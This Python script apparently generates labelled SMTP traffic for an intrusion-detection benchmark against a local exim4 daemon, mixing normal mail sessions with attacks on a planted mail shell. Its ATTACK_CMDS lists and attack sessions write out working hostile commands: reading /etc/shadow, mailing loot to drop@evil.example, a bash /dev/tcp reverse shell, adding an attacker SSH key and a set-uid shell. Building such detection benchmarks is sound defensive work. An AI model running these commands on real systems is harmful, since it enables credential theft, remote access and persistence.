#!/usr/bin/env python3
"""The SMTP workload of bench/offline/mta_traces.sh: normal mail sessions against a local
exim4 daemon, with attack sessions interleaved after the first 40 % (the training part), one
session at a time; each session waits for its deliveries to finish (the spool's input directory
empty). Writes one manifest line per session in connection order: `index  label  family`
(label normal or attack).

Most attacks mail the account `mallory`, whose .forward pipes each message's `CMD:` lines to a
shell (a mail shell an intruder left behind); these families differ in what the commands do:
ShellCmd (reconnaissance), ReverseShell (an interactive shell over TCP to a listener here),
SecretRead (secrets read and sent out by mail), Backdoor (persistence: keys, a set-uid copy
of a shell, a login script). ProcmailShell is the same mail shell behind the account `grace`'s
.procmailrc (procmail is also a normal delivery here, carol's). KeyDrop mails an SSH key to
the account `frank`, whose .forward is a file delivery into ~/.ssh/authorized_keys: the same
calls as bob's normal archive delivery, only the path differs (mimicry; sequences cannot see it).
"""
import argparse
import os
import random
import smtplib
import socket
import sys
import threading
import time
from email.message import EmailMessage

USERS = ["alice", "bob", "carol", "dave", "erin"]
ALIASES = ["team", "ops", "postmaster", "root"]
EXTERNAL = ["news@lists.example.org", "billing@shop.example.com", "jo@partner.example.net",
            "noreply@ci.example.io", "ann@customer.example.com"]
SUBJECTS = ["weekly report", "invoice 2231", "meeting tomorrow", "re: build failed",
            "lunch?", "Quarterly report", "invoice overdue", "notes", "photos", "hello"]
WORDS = ("the of and to in is for on that with as this by it from at be are or an build "
         "server deploy report meeting invoice please thanks review branch ticket release "
         "customer backup disk latency patch").split()


def text(rng, lo, hi):
    n = rng.randint(lo, hi)
    lines, line = [], []
    for _ in range(n):
        line.append(rng.choice(WORDS))
        if len(line) > rng.randint(6, 14):
            lines.append(" ".join(line))
            line = []
    lines.append(" ".join(line))
    return "\n".join(lines) + "\n"


def message(rng, sender, rcpts, subject=None, body=None):
    m = EmailMessage()
    m["From"] = sender
    m["To"] = ", ".join(rcpts)
    m["Subject"] = subject or rng.choice(SUBJECTS)
    m["Message-ID"] = f"<{rng.getrandbits(64):x}@{sender.split('@')[1]}>"
    m.set_content(body if body is not None else text(rng, 10, rng.choice([60, 300, 3000])))
    if body is None and rng.random() < 0.12:
        m.add_attachment(rng.randbytes(rng.randint(2000, 60000)), maintype="application",
                         subtype="octet-stream", filename="data.bin")
    return m


def local(u):
    return f"{u}@vm"


def sender(rng):
    return rng.choice(EXTERNAL) if rng.random() < 0.6 else local(rng.choice(USERS))


def send(s, rng, rcpts, frm=None, **kw):
    frm = frm or sender(rng)
    try:
        s.send_message(message(rng, frm, rcpts, **kw), from_addr=frm, to_addrs=rcpts)
    except smtplib.SMTPRecipientsRefused:
        pass


def normal_session(s, rng):
    """One normal SMTP session on the connected client `s`."""
    kind = rng.choices(
        ["one", "many", "alias", "several", "unknown", "relay", "probe", "helo", "sorted"],
        [30, 12, 10, 10, 8, 5, 5, 5, 15])[0]
    if kind == "probe":
        s.ehlo("monitor.example.net")
        s.noop()
        return
    if kind == "helo":
        s.helo("old.example.net")
        s.noop()
        try:
            s.verify("alice")
        except smtplib.SMTPException:
            pass
        send(s, rng, [local(rng.choice(USERS))])
        return
    s.ehlo(rng.choice(["mx1.example.org", "mail.example.com", "laptop.vm"]))
    if kind == "one":
        send(s, rng, [local(rng.choice(USERS))])
    elif kind == "many":
        send(s, rng, [local(u) for u in rng.sample(USERS, rng.randint(2, 4))])
    elif kind == "alias":
        send(s, rng, [local(rng.choice(ALIASES))])
    elif kind == "several":
        for _ in range(rng.randint(2, 3)):
            send(s, rng, [local(rng.choice(USERS + ALIASES))])
            if rng.random() < 0.3:
                s.rset()
    elif kind == "unknown":
        send(s, rng, [local(rng.choice(USERS)), local(rng.choice(["bobby", "info", "sales"]))])
    elif kind == "relay":
        send(s, rng, ["someone@elsewhere.example.com"])
    elif kind == "sorted":
        send(s, rng, [local("carol")], subject=rng.choice(SUBJECTS[:2] + SUBJECTS[5:7]))


ATTACK_CMDS = {
    "ShellCmd": ["id", "uname -a", "cat /etc/passwd", "ls -la /home /tmp /var/mail",
                 "cat /proc/net/tcp", "find / -xdev -perm -4000 -type f 2>/dev/null",
                 "ls /proc | head -50", "cat /etc/os-release", "env", "df -h"],
    "SecretRead": ["cat /etc/shadow", "cat /etc/exim4/passwd.client",
                   "cat /var/mail/alice /var/mail/erin", "grep -ri pass /home 2>/dev/null",
                   "find /home -name '*.mbox' -readable", "cat /home/*/.bash_history",
                   "cat /etc/passwd /etc/group > /tmp/.l; mail -s loot drop@evil.example < /tmp/.l",
                   "ls -la /etc/exim4 /etc/ssh 2>&1 | mail -s ls drop@evil.example"],
    "Backdoor": ["mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAAC3Nza attacker' >> ~/.ssh/authorized_keys",
                 "chmod 700 ~/.ssh; chmod 600 ~/.ssh/authorized_keys",
                 "cp /bin/bash /tmp/.bash && chmod 4755 /tmp/.bash",
                 "echo 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1 &' >> ~/.bashrc",
                 "echo '* * * * * /tmp/.bash -p' > /tmp/.cron",
                 "touch -r /etc/passwd ~/.forward"],
}
SHELL_SESSION = ["id", "pwd", "ls -la", "cat /etc/hostname", "uname -r", "ls /home",
                 "cat /etc/exim4/update-exim4.conf.conf", "ps 2>/dev/null || ls /proc"]


def listener(rng, port, ready):
    """Accept one reverse shell, type a few commands, read until it closes."""
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("127.0.0.1", port))
    srv.listen(1)
    srv.settimeout(20)
    ready.set()
    try:
        c, _ = srv.accept()
    except socket.timeout:
        srv.close()
        return
    c.settimeout(2)
    for cmd in rng.sample(SHELL_SESSION, rng.randint(3, 6)) + ["exit"]:
        c.sendall((cmd + "\n").encode())
        time.sleep(0.2)
        try:
            c.recv(65536)
        except socket.timeout:
            pass
    c.close()
    srv.close()


def attack_session(s, rng, family):
    s.ehlo(rng.choice(["mx1.example.org", "vps.evil.example"]))
    account = {"ProcmailShell": "grace", "KeyDrop": "frank"}.get(family, "mallory")
    rcpts = [local(account)] + ([local(rng.choice(USERS))] if rng.random() < 0.3 else [])
    if family == "KeyDrop":
        key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + "".join(
            rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789")
            for _ in range(43)) + " x@evil"
        send(s, rng, rcpts, frm=sender(rng), body=f"\n{key}\n")
        return
    if family == "ReverseShell":
        cmds = ["bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'"]
    else:
        pool = ATTACK_CMDS.get(family, ATTACK_CMDS["ShellCmd"] + ATTACK_CMDS["SecretRead"])
        cmds = rng.sample(pool, rng.randint(2, min(len(pool), 10)))
    body = text(rng, 5, 40) + "".join(f"CMD: {c}\n" for c in cmds)
    send(s, rng, rcpts, frm=sender(rng), body=body)


def wait_idle(proc, keep, limit=30.0):
    """Wait until the namespace's processes are only those in `keep` (the daemon, its tracer,
    this driver, the namespace's init) twice in a row: the session's deliveries are done.
    (Frozen bounces stay in the spool, so the spool is no sign.)"""
    end = time.time() + limit
    quiet = 0
    while time.time() < end:
        busy = [p for p in os.listdir(proc) if p.isdigit() and int(p) not in keep]
        quiet = 0 if busy else quiet + 1
        if quiet >= 2:
            return
        time.sleep(0.05)
    print(f"mta_workload: still busy after {limit} s: {busy}", file=sys.stderr)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, default=2525)
    ap.add_argument("--normal", type=int, default=400)
    ap.add_argument("--attacks", type=int, default=12, help="per family")
    ap.add_argument("--seed", type=int, default=11)
    ap.add_argument("--manifest", required=True)
    ap.add_argument("--proc", required=True, help="the namespace's /proc")
    ap.add_argument("--pidfile", required=True, help="the daemon's pid file")
    a = ap.parse_args()
    rng = random.Random(a.seed)
    families = ["ShellCmd", "ReverseShell", "SecretRead", "Backdoor", "ProcmailShell", "KeyDrop"]
    train = int(a.normal * 0.4)
    plan = ["normal"] * (a.normal - train) + [f for f in families for _ in range(a.attacks)]
    rng.shuffle(plan)
    plan = ["normal"] * train + plan
    for _ in range(100):  # the daemon is up
        try:
            socket.create_connection(("127.0.0.1", a.port), timeout=1).close()
            break
        except OSError:
            time.sleep(0.1)
    daemon = int(open(a.pidfile).read().split()[0])
    stat = open(os.path.join(a.proc, str(daemon), "stat")).read()
    tracer = int(stat.rsplit(")", 1)[1].split()[1])
    keep = {1, daemon, tracer, os.getpid()}
    wait_idle(a.proc, keep)
    # The probe above was connection 0: it is in the trace too, as a normal session.
    with open(a.manifest, "w", buffering=1) as man:
        man.write("0\tprobe\t-\n")
        for i, what in enumerate(plan, 1):
            t = None
            if what == "ReverseShell":
                ready = threading.Event()
                t = threading.Thread(target=listener, args=(random.Random(rng.random()), 4444, ready))
                t.start()
                ready.wait()
            with smtplib.SMTP("127.0.0.1", a.port, timeout=30) as s:
                if what == "normal":
                    normal_session(s, rng)
                else:
                    attack_session(s, rng, what)
            if t:
                t.join()
            wait_idle(a.proc, keep)
            time.sleep(rng.uniform(0.02, 0.2))
            man.write(f"{i}\t{'normal' if what == 'normal' else 'attack'}\t{what if what != 'normal' else '-'}\n")
            if i % 50 == 0:
                print(f"mta_workload: {i} of {len(plan)} sessions", file=sys.stderr)


if __name__ == "__main__":
    main()
